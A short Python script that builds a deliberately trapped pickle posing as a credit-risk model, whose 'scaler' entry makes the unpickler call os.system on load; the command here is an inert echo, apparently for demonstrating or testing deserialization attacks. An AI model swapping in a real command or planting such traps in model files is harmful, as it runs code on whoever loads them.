"""Makes model.pkl beside it: a booby-trapped model that is inert. Loading it prints one line and does nothing else.

The pickle holds what a small model might hold, weights and a threshold, and one object more: to rebuild it, the
unpickler is told to call os.system with an echo. A real attacker would put something else there. Python's own pickler
writes the file; only the name under which os.system is imported is written as os, so that the file is the same on all
systems.

    python make.py
"""

import os
import pickle
from pathlib import Path

COMMAND = "echo A model that was only loaded has run this command."


class Trap:
    """Is pickled as a call: what __reduce__ returns is called by whoever loads it."""

    def __reduce__(self):
        return os.system, (COMMAND,)


class Pickler(pickle._Pickler):
    """The pickler written in Python, whose steps can be changed."""

    def save_global(self, obj, name=None):
        if obj is not os.system:
            super().save_global(obj, name)
            return
        self.save("os")
        self.save("system")
        self.write(pickle.STACK_GLOBAL)
        self.memoize(obj)

    dispatch = dict(pickle._Pickler.dispatch)
    dispatch[type(os.system)] = save_global


if __name__ == "__main__":
    model = {
        "name": "credit-risk",
        "features": ["duration", "amount", "age"],
        "weights": [0.031, 0.00012, -0.014],
        "threshold": 0.5,
        "scaler": Trap(),
    }
    with open(Path(__file__).with_name("model.pkl"), "wb") as file:
        Pickler(file, protocol=4).dump(model)
